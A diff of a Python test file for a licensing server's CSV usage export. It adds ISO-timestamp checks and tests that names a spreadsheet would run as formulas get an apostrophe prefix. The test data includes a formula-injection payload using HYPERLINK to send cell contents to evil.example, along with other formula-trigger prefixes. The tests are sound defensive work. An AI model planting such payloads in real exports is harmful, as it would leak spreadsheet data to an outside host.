@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import time
+from datetime import datetime
 
 import pytest
 from api_support import assert_error, assert_log_clean, install_ok, usage
@@ -26,6 +28,7 @@ CSV_HEADER = [
     "source_ip",
     "server",
 ]
+ISO_MILLISECONDS = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
 
 
 @pytest.fixture
@@ -145,7 +148,9 @@ def test_usage_csv_export_has_the_header_and_one_row_per_record(logged):
     assert [int(row["id"]) for row in by_column] == [r["id"] for r in records]
     assert [row["kind"] for row in by_column] == [r["kind"] for r in records]
     assert by_column[-1]["printer_name"] == 'Front, "A"'  # commas and quotes survive the round trip
-    assert float(by_column[0]["at"]) == pytest.approx(records[0]["at"])
+    assert all(ISO_MILLISECONDS.fullmatch(row["at"]) for row in by_column), by_column
+    exported = datetime.strptime(by_column[0]["at"], "%Y-%m-%dT%H:%M:%S.%f%z").timestamp()
+    assert exported == pytest.approx(records[0]["at"], abs=0.001)
 
 
 def test_usage_csv_export_applies_the_filters(logged):
@@ -160,3 +165,33 @@ def test_usage_csv_of_an_empty_log_is_just_the_header(admin):
     answer = admin.get("/api/v1/admin/usage.csv")
     assert answer.status_code == 200
     assert list(csv.reader(io.StringIO(answer.text))) == [CSV_HEADER]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tindented", "\rreturn"]
+
+
+def test_usage_csv_neutralises_names_a_spreadsheet_would_run_as_formulas(server, issuer):
+    with server.admin() as admin:
+        install_ok(admin, issuer.license_bytes(license_id="PRN", unit="printers", count=20))
+        for text in [*FORMULAS, "Zebra - Hall 2"]:
+            answer = admin.post(
+                "/api/v1/print-checks",
+                json={"product": "LabelStudio", "printer": {"name": text}, "client": {"host": text, "user": text}},
+            )
+            assert answer.status_code == 200, answer.text
+        rows = list(csv.DictReader(io.StringIO(admin.get("/api/v1/admin/usage.csv").text)))
+    by_name = {row["printer_name"]: row for row in rows}
+    for text in FORMULAS:
+        row = by_name["'" + text]
+        assert row["client_host"] == row["client_user"] == "'" + text
+    assert by_name["Zebra - Hall 2"]["client_host"] == "Zebra - Hall 2"
+    assert not any(value[:1] in "=+-@\t\r" and value for row in rows for value in row.values())
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "\uff1dSUM(A1)", "\uff20x"])
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_the_rest_is_untouched(text):
+    from licentia.api.csv_export import spreadsheet_text
+
+    assert spreadsheet_text(text) == "'" + text
+    for value in ("Zebra-1", "a=b", "", 42, -1.5, True, "'quoted"):
+        assert spreadsheet_text(value) == value
